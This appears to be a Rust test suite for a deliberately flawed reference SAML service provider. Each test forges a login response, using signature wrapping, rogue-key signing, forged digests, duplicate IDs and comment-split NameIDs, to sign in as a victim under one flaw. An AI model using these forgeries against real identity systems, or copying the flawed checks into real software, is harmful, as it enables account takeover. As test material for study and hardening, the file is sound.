//! Each switch really is vulnerable, the hardened service provider refuses the very same message, and a switch
//! changes nothing else: an ordinary sign-in works under each.

use reference_sp::{Config, Flaw, Flaws, ReferenceSp};
use saml::names::{alg, method};
use saml::response::{Issuer, Response};
use saml::signature::{Template, digest_of, key_value};

use crate::kit::browser::{Browser, Outcome, deliver};
use crate::kit::*;

/// The message signs in `user` under the switch, and not in the hardened service provider.
pub(crate) async fn exploit(flaw: Flaw, user: &str, message: impl Fn(&ReferenceSp) -> String) {
    let sp = hardened().await;
    let hardened = deliver(&sp, &message(&sp)).await;
    assert!(matches!(hardened, Outcome::Out(_)), "hardened: {hardened:?}");
    let sp = start(Config {
        flaws: flaw.into(),
        ..Config::default()
    })
    .await;
    deliver(&sp, &message(&sp)).await.is(user);
}

/// A change of what the IdP says, signed, that only the switch lets in.
pub(crate) async fn lax(flaw: Flaw, change: impl Fn(&mut Response)) {
    exploit(flaw, ALICE, |sp| {
        let mut message = response(sp, tenant(), ALICE);
        change(&mut message);
        sign_assertion(&message.to_xml(), tenant())
    })
    .await;
}

/// The attacker's own signed login.
pub(crate) fn genuine(sp: &ReferenceSp) -> String {
    flawless(sp, ATTACKER)
}

/// The same with this before the Status.
pub(crate) fn with_extensions(xml: &str, content: &str) -> String {
    xml.replace(
        "<samlp:Status>",
        &format!("<samlp:Extensions>{content}</samlp:Extensions><samlp:Status>"),
    )
}

/// The digest that the Assertion of a message would need, without its Signature.
pub(crate) fn forged_digest(xml: &str) -> String {
    let (assertion, signature) = (xml.find("<Assertion").unwrap(), xml.find("<Signature").unwrap());
    digest_of(xml, assertion, &[signature], alg::EXC_C14N, alg::SHA256).unwrap()
}

#[tokio::test]
async fn v01_believes_any_signature() {
    exploit(Flaw::NoSigCheck, VICTIM, |sp| {
        genuine(sp).replace(ATTACKER, VICTIM)
    })
    .await;
    exploit(Flaw::NoSigCheck, VICTIM, |sp| {
        response(sp, tenant(), VICTIM).to_xml()
    })
    .await;
}

#[tokio::test]
async fn v02_is_content_with_no_signature() {
    exploit(Flaw::SigIfPresent, VICTIM, |sp| {
        response(sp, tenant(), VICTIM).to_xml()
    })
    .await;
    let sp = start(Config {
        flaws: Flaw::SigIfPresent.into(),
        ..Config::default()
    })
    .await;
    deliver(&sp, &genuine(&sp).replace(ATTACKER, VICTIM))
        .await
        .is_refused("digest");
}

#[tokio::test]
async fn v05_trusts_the_key_that_comes_along() {
    exploit(Flaw::KeyInfoTrust, VICTIM, |sp| {
        sign_assertion(&response(sp, tenant(), VICTIM).to_xml(), rogue())
    })
    .await;
    exploit(Flaw::KeyInfoTrust, VICTIM, |sp| {
        let plain = response(sp, tenant(), VICTIM).to_xml();
        sign_assertion_with(&plain, rogue(), |template| {
            template.key_info = format!("<KeyInfo>{}</KeyInfo>", inner_key_value());
        })
    })
    .await;
}

/// KeyValue, whether or not its writer adds KeyInfo around it.
fn inner_key_value() -> String {
    key_value(rogue().key.certificate())
        .replace("<KeyInfo>", "")
        .replace("</KeyInfo>", "")
}

#[tokio::test]
async fn v09_never_checks_the_signature_value() {
    let forged = |xml: String| {
        let changed = xml.replace(ATTACKER, VICTIM);
        let old = cut(&changed, "<DigestValue>", "</DigestValue>").to_owned();
        changed.replace(
            &old,
            &format!("<DigestValue>{}</DigestValue>", forged_digest(&changed)),
        )
    };
    exploit(Flaw::DigestOnly, VICTIM, |sp| forged(genuine(sp))).await;
    exploit(Flaw::DigestOnly, VICTIM, |sp| {
        let xml = forged(genuine(sp));
        xml.replace(cut(&xml, "<SignatureValue>", "</SignatureValue>"), "")
    })
    .await;
    let sp = start(Config {
        flaws: Flaw::DigestOnly.into(),
        ..Config::default()
    })
    .await;
    deliver(&sp, &genuine(&sp).replace(ATTACKER, VICTIM))
        .await
        .is_refused("digest");
}

#[tokio::test]
async fn v11_reads_what_it_did_not_verify() {
    let before = |sp: &ReferenceSp| {
        let xml = genuine(sp);
        xml.replace(
            assertion_of(&xml),
            &format!("{}{}", evil(&xml, false), assertion_of(&xml)),
        )
    };
    exploit(Flaw::UnboundVerify, VICTIM, before).await;
    let around = |sp: &ReferenceSp| {
        let xml = genuine(sp);
        let evil = evil(&xml, false);
        xml.replace(
            assertion_of(&xml),
            &evil.replace("</Assertion>", &format!("{}</Assertion>", assertion_of(&xml))),
        )
    };
    exploit(Flaw::UnboundVerify, VICTIM, around).await;
    let in_its_signature = |sp: &ReferenceSp| {
        let xml = genuine(sp);
        let (assertion, signature) = (assertion_of(&xml).to_owned(), signature_of(&xml).to_owned());
        let kept = assertion.replace(&signature, "");
        let wrapping = signature.replace("</Signature>", &format!("<Object>{kept}</Object></Signature>"));
        let evil = evil(&xml, false).replacen("</Issuer>", &format!("</Issuer>{wrapping}"), 1);
        xml.replace(&assertion, &evil)
    };
    exploit(Flaw::UnboundVerify, VICTIM, in_its_signature).await;
}

#[tokio::test]
async fn v12_reads_the_last_assertion() {
    exploit(Flaw::ReadLastAssertion, VICTIM, |sp| {
        let xml = genuine(sp);
        xml.replace(
            assertion_of(&xml),
            &format!("{}{}", assertion_of(&xml), evil(&xml, false)),
        )
    })
    .await;
}

#[tokio::test]
async fn v13_takes_one_of_two_namesakes() {
    exploit(Flaw::DuplicateId, VICTIM, |sp| {
        let xml = genuine(sp);
        with_extensions(&xml, &evil(&xml, true))
    })
    .await;
    exploit(Flaw::DuplicateId, VICTIM, |sp| {
        let xml = genuine(sp);
        xml.replace(
            assertion_of(&xml),
            &format!("{}{}", evil(&xml, true), assertion_of(&xml)),
        )
    })
    .await;
    exploit(Flaw::DuplicateId, VICTIM, |sp| {
        let xml = genuine(sp);
        xml.replace(
            assertion_of(&xml),
            &format!("{}{}", assertion_of(&xml), evil(&xml, true)),
        )
    })
    .await;
    exploit(Flaw::DuplicateId, VICTIM, |sp| {
        let xml = genuine(sp);
        let (assertion, signature) = (assertion_of(&xml).to_owned(), signature_of(&xml).to_owned());
        let kept = assertion.replace(&signature, "");
        let wrapping = signature.replace("</Signature>", &format!("<Object>{kept}</Object></Signature>"));
        xml.replace(
            &assertion,
            &evil(&xml, true).replacen("</Issuer>", &format!("</Issuer>{wrapping}"), 1),
        )
    })
    .await;
}

#[tokio::test]
async fn v19_finds_a_digest_anywhere() {
    const DIGEST: &str = "DigestValue xmlns=\"http://www.w3.org/2000/09/xmldsig#\"";
    exploit(Flaw::DocWideDigest, VICTIM, |sp| {
        let xml = genuine(sp).replace(ATTACKER, VICTIM);
        with_extensions(&xml, &format!("<{DIGEST}>{}</DigestValue>", forged_digest(&xml)))
    })
    .await;
    exploit(Flaw::DocWideDigest, VICTIM, |sp| {
        let xml = genuine(sp).replace(ATTACKER, VICTIM);
        let object = format!(
            "<Object><DigestValue>{}</DigestValue></Object><SignedInfo>",
            forged_digest(&xml)
        );
        xml.replace("<SignedInfo>", &object)
    })
    .await;
}

#[tokio::test]
async fn v28_stops_reading_at_markup() {
    let issued = format!("{VICTIM}.evil.example");
    for split in ["<!---->.evil.example", "<![CDATA[.evil.example]]>"] {
        let split = format!("{VICTIM}{split}");
        exploit(Flaw::TextFirstNode, VICTIM, |sp| {
            flawless(sp, &issued).replace(&issued, &split)
        })
        .await;
    }
    exploit(Flaw::TextFirstNode, VICTIM, |sp| {
        let plain = response(sp, tenant(), &issued).to_xml();
        sign_assertion(
            &plain.replace(&issued, &format!("{VICTIM}<?x?>.evil.example")),
            tenant(),
        )
    })
    .await;
}

#[tokio::test]
async fn v31_takes_what_is_meant_for_others() {
    lax(Flaw::NoAudience, |m| {
        m.assertions[0].conditions.as_mut().unwrap().audiences =
            vec![vec!["https://other-sp.example".to_owned()]];
    })
    .await;
}

#[tokio::test]
async fn v33_takes_what_was_sent_elsewhere() {
    lax(Flaw::NoRecipient, |m| {
        m.assertions[0].subject.confirmations[0].recipient = Some("https://other-sp.example/acs".to_owned());
    })
    .await;
}

#[tokio::test]
async fn v36_lets_any_tenant_speak_for_anybody() {
    exploit(Flaw::IssuerUnbound, VICTIM, |sp| {
        sign_assertion(&response(sp, other_tenant(), VICTIM).to_xml(), other_tenant())
    })
    .await;
    exploit(Flaw::IssuerUnbound, VICTIM, |sp| {
        sign_assertion(&response(sp, tenant(), VICTIM).to_xml(), other_tenant())
    })
    .await;
    lax(Flaw::IssuerUnbound, |m| {
        m.assertions[0].issuer = Some(Issuer {
            value: "https://other.example/".to_owned(),
            format: None,
        });
    })
    .await;
    let sp = start(Config {
        flaws: Flaw::IssuerUnbound.into(),
        ..Config::default()
    })
    .await;
    deliver(
        &sp,
        &sign_assertion(&response(&sp, tenant(), VICTIM).to_xml(), rogue()),
    )
    .await
    .is_refused("no key");
}

#[tokio::test]
async fn v37_has_no_clock() {
    lax(Flaw::NoTime, |m| {
        let conditions = m.assertions[0].conditions.as_mut().unwrap();
        conditions.not_before = Some(in_seconds(-7200));
        conditions.not_on_or_after = Some(in_seconds(-3600));
    })
    .await;
    lax(Flaw::NoTime, |m| {
        m.assertions[0].conditions.as_mut().unwrap().not_before = Some(in_seconds(1800));
    })
    .await;
    lax(Flaw::NoTime, |m| {
        m.assertions[0].subject.confirmations[0].not_on_or_after = Some(in_seconds(-3600));
    })
    .await;
    lax(Flaw::NoTime, |m| m.issue_instant = None).await;
}

#[tokio::test]
async fn v39_takes_answers_to_nothing() {
    exploit(Flaw::NoInResponseTo, ALICE, |sp| {
        sign_assertion(
            &answering(response(sp, tenant(), ALICE), "_deadbeef").to_xml(),
            tenant(),
        )
    })
    .await;
    exploit(Flaw::NoInResponseTo, ALICE, |sp| {
        let mut message = answering(response(sp, tenant(), ALICE), "_one");
        message.in_response_to = Some("_two".to_owned());
        sign_assertion(&message.to_xml(), tenant())
    })
    .await;
}

#[tokio::test]
async fn v41_forgets_what_it_used() {
    for (flaws, again) in [(Flaws::NONE, false), (Flaw::NoReplay.into(), true)] {
        let sp = start(Config {
            flaws,
            ..Config::default()
        })
        .await;
        let message = flawless(&sp, ALICE);
        deliver(&sp, &message).await.is(ALICE);
        assert_eq!(
            deliver(&sp, &message).await == Outcome::In(ALICE.to_owned()),
            again
        );
    }
}

#[tokio::test]
async fn v44_needs_no_confirmation() {
    lax(Flaw::AnyConfirmation, |m| {
        m.assertions[0].subject.confirmations.clear()
    })
    .await;
    lax(Flaw::AnyConfirmation, |m| {
        m.assertions[0].subject.confirmations[0].method = method::HOLDER_OF_KEY.to_owned();
    })
    .await;
}

#[tokio::test]
async fn an_ordinary_sign_in_works_under_every_switch() {
    let sp = hardened().await;
    for &flaw in Flaw::ALL {
        sp.set_flaws(flaw.into());
        deliver(&sp, &flawless(&sp, ALICE)).await.is(ALICE);
        let plain = response(&sp, tenant(), ALICE).to_xml();
        deliver(&sp, &sign_response(&plain, tenant())).await.is(ALICE);
        let browser = Browser::new(&sp);
        let id = browser.begin("").await;
        browser
            .deliver(&sign_assertion(
                &answering(response(&sp, tenant(), ALICE), &id).to_xml(),
                tenant(),
            ))
            .await
            .is(ALICE);
    }
}

#[tokio::test]
async fn a_switch_opens_no_other_door() {
    let sp = hardened().await;
    let unsigned = |sp: &ReferenceSp| response(sp, tenant(), VICTIM).to_xml();
    let changed = |sp: &ReferenceSp| genuine(sp).replace(ATTACKER, VICTIM);
    let rogue_key = |sp: &ReferenceSp| sign_assertion_with(&unsigned(sp), rogue(), no_key_info);
    for &flaw in Flaw::ALL {
        sp.set_flaws(flaw.into());
        let mut doors: Vec<(&str, &[Flaw], String)> = vec![
            ("unsigned", &[Flaw::NoSigCheck, Flaw::SigIfPresent], unsigned(&sp)),
            ("changed", &[Flaw::NoSigCheck, Flaw::SigValueOnly], changed(&sp)),
            ("rogue key", &[Flaw::NoSigCheck, Flaw::DigestOnly], rogue_key(&sp)),
        ];
        let mut late = response(&sp, tenant(), ALICE);
        late.assertions[0].conditions.as_mut().unwrap().not_on_or_after = Some(in_seconds(-240));
        doors.push(("late", &[Flaw::NoTime], sign_assertion(&late.to_xml(), tenant())));
        for (door, opened_by, message) in doors {
            let outcome = deliver(&sp, &message).await;
            assert_eq!(
                matches!(outcome, Outcome::In(_)),
                opened_by.contains(&flaw),
                "{flaw}, {door}: {outcome:?}"
            );
        }
    }
}

fn no_key_info(template: &mut Template) {
    template.key_info.clear();
}
